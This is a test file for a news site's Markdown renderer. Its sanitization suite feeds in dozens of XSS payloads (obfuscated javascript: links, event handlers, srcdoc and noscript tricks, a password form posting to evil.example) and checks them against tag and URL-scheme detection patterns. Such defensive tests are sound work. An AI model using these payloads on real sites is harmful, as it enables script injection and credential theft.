import { describe, expect, it } from "vitest";
import { unified } from "unified";
import rehypeParse from "rehype-parse";
import { visit } from "unist-util-visit";
import type { Element, Root } from "hast";
import { renderMarkdown, type UrlContext } from "../../../src/markdown/render-markdown.js";
import { withPlainTextFallback } from "../../../src/markdown/load-renderer.js";
import { absoluteHtmlOf } from "../../../src/markdown/absolute-urls.js";

const AT_ROOT: UrlContext = { pageUrl: "https://site.example/articles/grid-data/", basePath: "" };
const UNDER_NEWS: UrlContext = { pageUrl: "https://site.example/news/articles/grid-data/", basePath: "/news" };

/** The page HTML and the feed variant feeds make from it (absolute URLs). */
function renderBoth(md: string, urls: UrlContext) {
  const rendered = renderMarkdown(md, urls);
  return { ...rendered, absoluteHtml: absoluteHtmlOf(rendered.html, urls.pageUrl) };
}

const parser = unified().use(rehypeParse, { fragment: true });

/** Parses HTML the way a browser would and lists its elements. */
function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  visit(parser.parse(html) as Root, "element", (node: Element) => {
    found.push(node);
  });
  return found;
}

const DANGEROUS_TAGS = new Set([
  "script",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "form",
  "style",
  "svg",
  "math",
  "meta",
  "base",
  "link",
  "noscript",
  "template",
]);
// Browsers drop ASCII whitespace and control characters inside a URL scheme before deciding what it is.
const DANGEROUS_URL = /^(?:javascript|data|vbscript):/i;

/** Every way the HTML could still run script or load active content; empty when it is safe. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  if (/<\s*(script|iframe|object|embed|form|style|svg)\b/i.test(html)) dangers.push("dangerous tag in markup");
  for (const el of elementsOf(html)) {
    if (DANGEROUS_TAGS.has(el.tagName)) dangers.push(`<${el.tagName}>`);
    for (const [name, value] of Object.entries(el.properties ?? {})) {
      if (/^on/i.test(name)) dangers.push(`${el.tagName}.${name}`);
      if (["style", "srcDoc", "formAction"].includes(name)) dangers.push(`${el.tagName}.${name}`);
      for (const text of Array.isArray(value) ? value.map(String) : [String(value)]) {
        if (DANGEROUS_URL.test(text.replace(/[\u0000-\u0020]/g, ""))) dangers.push(`${el.tagName}.${name}=${text}`);
      }
    }
  }
  return dangers;
}

describe("renderMarkdown", () => {
  describe("GitHub-flavoured Markdown", () => {
    it("renders tables", () => {
      const { html } = renderMarkdown("| Grid | Load |\n|---|--:|\n| North | 12 |", AT_ROOT);
      const tags = elementsOf(html).map((e) => e.tagName);
      expect(tags).toEqual(expect.arrayContaining(["table", "thead", "tbody", "tr", "th", "td"]));
      expect(html).toMatch(/<th>Grid<\/th>/);
      expect(html).toMatch(/<td[^>]*>12<\/td>/);
    });

    it("renders task lists as disabled checkboxes", () => {
      const { html } = renderMarkdown("- [x] done\n- [ ] todo", AT_ROOT);
      const boxes = elementsOf(html).filter((e) => e.tagName === "input");
      expect(boxes).toHaveLength(2);
      expect(
        boxes.map((b) => [b.properties.type, b.properties.checked === true, b.properties.disabled === true]),
      ).toEqual([
        ["checkbox", true, true],
        ["checkbox", false, true],
      ]);
    });

    it("renders strikethrough", () => {
      expect(renderMarkdown("~~withdrawn~~ claim", AT_ROOT).html).toContain("<del>withdrawn</del>");
    });

    it("links bare URLs", () => {
      expect(renderMarkdown("See https://grid.example/report today.", AT_ROOT).html).toContain(
        '<a href="https://grid.example/report">https://grid.example/report</a>',
      );
    });
  });

  describe("sanitization", () => {
    it.each([
      { name: "a script element", md: "<script>alert(1)</script>" },
      { name: "an uppercase external script", md: "<SCRIPT SRC=//evil.example/x.js></SCRIPT>" },
      { name: "an onerror handler", md: "<img src=x onerror=alert(1)>" },
      { name: "an onmouseover handler", md: '<div onmouseover="alert(1)">hover</div>' },
      { name: "an onclick handler on a link", md: '<a href="#top" onclick="alert(1)">top</a>' },
      { name: "an ontoggle handler", md: "<details open ontoggle=alert(1)><summary>s</summary></details>" },
      { name: "a javascript: Markdown link", md: "[click](javascript:alert(1))" },
      { name: "an uppercase JAVASCRIPT: Markdown link", md: "[click](JAVASCRIPT:alert(1))" },
      { name: "a javascript: Markdown image", md: "![pic](javascript:alert(1))" },
      { name: "a javascript: reference link", md: "[click][evil]\n\n[evil]: javascript:alert(1)" },
      { name: "a javascript: autolink", md: "<javascript:alert(1)>" },
      { name: "a tab-entity-obfuscated Markdown link", md: "[click](jav&#x09;ascript:alert(1))" },
      { name: "a javascript: raw HTML link", md: '<a href="javascript:alert(1)">x</a>' },
      { name: "a tab-entity-obfuscated raw link (jav&#x09;ascript:)", md: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
      { name: "a newline-entity-obfuscated raw link", md: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
      { name: "a decimal-entity-obfuscated raw link", md: '<a href="&#106;avascript:alert(1)">x</a>' },
      { name: "a named-entity colon", md: '<a href="javascript&colon;alert(1)">x</a>' },
      { name: "a mixed-case link with leading spaces", md: '<a href="  JaVaScRiPt:alert(1)">x</a>' },
      { name: "a vbscript: link", md: '<a href="vbscript:msgbox(1)">x</a>' },
      { name: "a data: Markdown link", md: "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)" },
      { name: "a data: raw link", md: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
      { name: "a data: image", md: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
      { name: "an iframe", md: '<iframe src="https://evil.example"></iframe>' },
      { name: "an iframe with srcdoc", md: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
      { name: "an object", md: '<object data="movie.swf" type="application/x-shockwave-flash"></object>' },
      { name: "an embed", md: '<embed src="movie.swf">' },
      {
        name: "a form",
        md: '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
      },
      { name: "a formaction button", md: '<button formaction="javascript:alert(1)">go</button>' },
      { name: "a script inside svg", md: "<svg><script>alert(1)</script></svg>" },
      { name: "an svg onload", md: "<svg onload=alert(1)></svg>" },
      { name: "an xlink:href in math", md: '<math><a xlink:href="javascript:alert(1)">x</a></math>' },
      { name: "a style element", md: "<style>body{display:none}</style>" },
      { name: "a style attribute", md: '<p style="background:url(javascript:alert(1))">x</p>' },
      { name: "a meta refresh", md: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
      { name: "a base element", md: '<base href="https://evil.example/">' },
      {
        name: "a noscript mutation trick",
        md: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      },
      // Found by the hostile corpus (tests/fixtures/hostile): GitHub's schema checks no scheme in srcset or action.
      {
        name: "a javascript: srcset in <picture>",
        md: '<picture><source srcset="javascript:alert(1)"><img src="/a.png" alt="a"></picture>',
      },
      {
        name: "a data: srcset with a leading space",
        md: '<picture><source srcset=" data:text/html,<script>alert(1)</script> 1x"></picture>',
      },
      { name: "a javascript: action on a harmless element", md: '<p action="javascript:alert(1)">x</p>' },
    ])("removes $name from html and absoluteHtml", ({ md }) => {
      for (const context of [AT_ROOT, UNDER_NEWS]) {
        const { html, absoluteHtml } = renderBoth(md, context);
        expect(dangersIn(html)).toEqual([]);
        expect(dangersIn(absoluteHtml)).toEqual([]);
      }
    });

    it("drops script content entirely instead of showing it as text", () => {
      const { html, absoluteHtml } = renderBoth(
        "Before\n\n<script>alert(1)</script>\n\n<svg><script>steal()</script></svg>\n\nAfter",
        AT_ROOT,
      );
      expect(html).not.toMatch(/alert|steal/);
      expect(absoluteHtml).not.toMatch(/alert|steal/);
      expect(html).toMatch(/Before[\s\S]*After/);
    });

    it("keeps the text of a link whose dangerous href it drops", () => {
      const { html } = renderMarkdown("Read [the report](javascript:alert(1)) now.", AT_ROOT);
      expect(html).toContain("the report");
      expect(html).not.toContain("href");
    });

    it("keeps http(s) and relative srcset candidates", () => {
      const { html } = renderMarkdown(
        '<picture><source srcset="https://cdn.example/a.webp 1x, /b.webp 2x"><img src="/a.png" alt="a"></picture>',
        AT_ROOT,
      );
      expect(html).toContain('<source srcset="https://cdn.example/a.webp 1x, /b.webp 2x">');
    });

    it("keeps harmless raw HTML", () => {
      const { html } = renderMarkdown(
        "<details><summary>More</summary>Hidden detail</details>\n\n<kbd>Ctrl</kbd>",
        AT_ROOT,
      );
      expect(html).toContain("<details><summary>More</summary>Hidden detail</details>");
      expect(html).toContain("<kbd>Ctrl</kbd>");
    });

    it("prefixes raw HTML ids so they cannot clobber page globals", () => {
      expect(renderMarkdown('<h2 id="location">Where</h2>', AT_ROOT).html).toContain('id="user-content-location"');
    });

    it("checks itself: the danger finder does flag unsafe HTML", () => {
      expect(dangersIn('<a href="jav\tascript:alert(1)" onclick="x">x</a><script></script>')).toHaveLength(4);
    });
  });

  describe("URLs", () => {
    const md =
      "[rel](../other/) ![img](/images/a.png) [root](/about/) [frag](#sec) [ext](https://ext.example/x) [mail](mailto:desk@site.example) [query](?page=2) [cdn](//cdn.example/x.js)";

    it("makes every relative URL absolute in absoluteHtml", () => {
      const links = elementsOf(renderBoth(md, UNDER_NEWS).absoluteHtml).flatMap((e) =>
        [e.properties.href, e.properties.src].filter((v) => v !== undefined),
      );
      expect(links).toEqual([
        "https://site.example/news/articles/other/",
        "https://site.example/news/images/a.png",
        "https://site.example/news/about/",
        "https://site.example/news/articles/grid-data/#sec",
        "https://ext.example/x",
        "mailto:desk@site.example",
        "https://site.example/news/articles/grid-data/?page=2",
        "https://cdn.example/x.js",
      ]);
    });

    it("prefixes the base path to root-relative URLs in html and leaves the others as written", () => {
      const links = elementsOf(renderMarkdown(md, UNDER_NEWS).html).flatMap((e) =>
        [e.properties.href, e.properties.src].filter((v) => v !== undefined),
      );
      expect(links).toEqual([
        "../other/",
        "/news/images/a.png",
        "/news/about/",
        "#sec",
        "https://ext.example/x",
        "mailto:desk@site.example",
        "?page=2",
        "//cdn.example/x.js",
      ]);
    });

    it("does not prefix the base path twice", () => {
      const { html } = renderMarkdown("[x](/news/already/) [y](/newsroom/)", UNDER_NEWS);
      expect(html).toContain('href="/news/already/"');
      expect(html).toContain('href="/news/newsroom/"');
    });

    it("leaves root-relative URLs alone at the site root", () => {
      expect(renderMarkdown("[root](/about/)", AT_ROOT).html).toContain('href="/about/"');
    });

    it("rewrites URLs in raw HTML too", () => {
      const { html, absoluteHtml } = renderBoth('<a href="/about/">a</a> <img src="pic.png" alt="p">', UNDER_NEWS);
      expect(html).toContain('href="/news/about/"');
      expect(absoluteHtml).toContain('src="https://site.example/news/articles/grid-data/pic.png"');
    });

    it("loads images lazily", () => {
      const [img] = elementsOf(renderMarkdown("![a map](/images/map.svg)", AT_ROOT).html).filter(
        (e) => e.tagName === "img",
      );
      expect(img!.properties).toMatchObject({
        src: "/images/map.svg",
        alt: "a map",
        loading: "lazy",
        decoding: "async",
      });
    });
  });

  describe("what later stages need", () => {
    const article = "# Title\n\nFirst *para* here\nwith two lines.\n\n## Sub `code`\n\nSecond para.\n\n### Third\n";

    it("takes the excerpt from the first paragraph as plain text on one line", () => {
      expect(renderMarkdown(article, AT_ROOT).excerpt).toBe("First para here with two lines.");
    });

    it("skips headings, lists and tables when looking for the excerpt", () => {
      expect(renderMarkdown("## Heading\n\n- item\n\n| a |\n|---|\n| b |\n\nThe real start.", AT_ROOT).excerpt).toBe(
        "The real start.",
      );
    });

    it("gives an empty excerpt when there is no paragraph", () => {
      expect(renderMarkdown("## Only a heading", AT_ROOT).excerpt).toBe("");
    });

    it("lists headings with their depth as shown (under the page's h1) and plain text, in order", () => {
      expect(renderMarkdown(article, AT_ROOT).headings).toEqual([
        { depth: 2, text: "Title" },
        { depth: 3, text: "Sub code" },
        { depth: 4, text: "Third" },
      ]);
    });

    it.each([
      { md: "", count: 0 },
      { md: "one", count: 1 },
      { md: "Word count: one two, three — four 42 !!", count: 7 },
      { md: "Café déjà vu — naïve façade", count: 5 },
      { md: "# Head\n\nBody text here.", count: 4 },
      { md: "<script>alert(one two three)</script>Visible", count: 1 },
    ])("counts $count words in $md", ({ md, count }) => {
      expect(renderMarkdown(md, AT_ROOT).wordCount).toBe(count);
    });
  });
});

describe("the renderer as builds use it (withPlainTextFallback)", () => {
  const render = withPlainTextFallback(renderMarkdown);

  it("removes control characters and noncharacters from bodies, as from front-matter and feeds", () => {
    const out = render(
      "Bell\u0007 escape\u001b[31m null\u0000 nonchar\uFFFE\uFDD0 kept: tab\there, emoji 😀\n\n`code\u0007`",
      AT_ROOT,
    );
    for (const html of [out.html, absoluteHtmlOf(out.html, AT_ROOT.pageUrl)]) {
      expect(html).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\uFDD0-\uFDEF\uFFFE\uFFFF]/);
      expect(html).toContain("tab\there, emoji 😀");
      expect(html).toContain("escape[31m");
    }
    expect(out.excerpt).toBe("Bell escape[31m null nonchar kept: tab here, emoji 😀");
  });
});
